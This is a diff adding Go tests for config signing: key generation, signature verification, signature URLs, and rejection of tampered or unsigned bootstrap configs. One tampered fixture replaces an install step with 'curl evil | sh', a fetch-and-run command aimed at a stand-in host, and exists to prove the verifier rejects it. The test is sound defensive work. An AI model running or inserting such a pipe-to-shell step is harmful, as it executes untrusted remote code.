@@ -0,0 +1,105 @@
+package main
+
+import (
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// TestSignAndVerify tests key generation and detached signature round trips
+func TestSignAndVerify(t *testing.T) {
+	dir := t.TempDir()
+	keyPath := filepath.Join(dir, "signing.pem")
+
+	if err := generateSigningKey(keyPath); err != nil {
+		t.Fatalf("failed to generate key: %v", err)
+	}
+	if err := generateSigningKey(keyPath); err == nil {
+		t.Error("expected error when the key already exists")
+	}
+	if info, _ := os.Stat(keyPath); info.Mode().Perm() != 0600 {
+		t.Errorf("private key mode = %v, want 0600", info.Mode().Perm())
+	}
+
+	priv, err := loadSigningKey(keyPath)
+	if err != nil {
+		t.Fatalf("failed to load private key: %v", err)
+	}
+	pub, err := loadPublicKey(keyPath + ".pub")
+	if err != nil {
+		t.Fatalf("failed to load public key: %v", err)
+	}
+	if _, err := loadPublicKey(keyPath); err == nil {
+		t.Error("expected error loading a private key as public key")
+	}
+
+	data := []byte(`{"version":"1.0.0"}`)
+	signature := signData(data, priv)
+
+	if err := verifySignature(data, signature, pub); err != nil {
+		t.Errorf("valid signature rejected: %v", err)
+	}
+	if err := verifySignature([]byte(`{"version":"6.6.6"}`), signature, pub); err == nil {
+		t.Error("expected tampered data to fail verification")
+	}
+	if err := verifySignature(data, "not-base64!", pub); err == nil {
+		t.Error("expected malformed signature to fail verification")
+	}
+}
+
+// TestSignatureURL tests that signature URLs keep query strings intact
+func TestSignatureURL(t *testing.T) {
+	tests := map[string]string{
+		"https://example.com/config.json":          "https://example.com/config.json.sig",
+		"http://laptop:8321/dev.json?token=s3cret": "http://laptop:8321/dev.json.sig?token=s3cret",
+	}
+	for url, want := range tests {
+		if got := signatureURL(url); got != want {
+			t.Errorf("signatureURL(%s) = %s, want %s", url, got, want)
+		}
+	}
+}
+
+// TestLoadConfigFromURLWithSignature tests signature enforcement during bootstrap
+func TestLoadConfigFromURLWithSignature(t *testing.T) {
+	dir := t.TempDir()
+	keyPath := filepath.Join(dir, "signing.pem")
+	if err := generateSigningKey(keyPath); err != nil {
+		t.Fatalf("failed to generate key: %v", err)
+	}
+	priv, _ := loadSigningKey(keyPath)
+	pub, _ := loadPublicKey(keyPath + ".pub")
+
+	config := []byte(`{"version":"1.0.0","platforms":[{"os":"linux","match":"linux*","name":"Linux","install_steps":[{"name":"a","command":"true"}]}]}`)
+	signature := signData(config, priv)
+
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		switch r.URL.Path {
+		case "/config.json", "/tampered.json":
+			if r.URL.Path == "/tampered.json" {
+				w.Write([]byte(strings.Replace(string(config), "true", "curl evil | sh", 1)))
+				return
+			}
+			w.Write(config)
+		case "/config.json.sig", "/tampered.json.sig":
+			w.Write([]byte(signature))
+		default:
+			http.NotFound(w, r)
+		}
+	}))
+	defer server.Close()
+
+	// Plain HTTP is acceptable when a signature is required
+	if _, err := loadConfigFromURLWithOptions(server.URL+"/config.json", URLLoadOptions{PublicKey: pub}); err != nil {
+		t.Errorf("signed config rejected: %v", err)
+	}
+	if _, err := loadConfigFromURLWithOptions(server.URL+"/tampered.json", URLLoadOptions{PublicKey: pub}); err == nil {
+		t.Error("expected tampered config to be rejected")
+	}
+	if _, err := loadConfigFromURLWithOptions(server.URL+"/missing.json", URLLoadOptions{PublicKey: pub}); err == nil {
+		t.Error("expected missing config to be rejected")
+	}
+}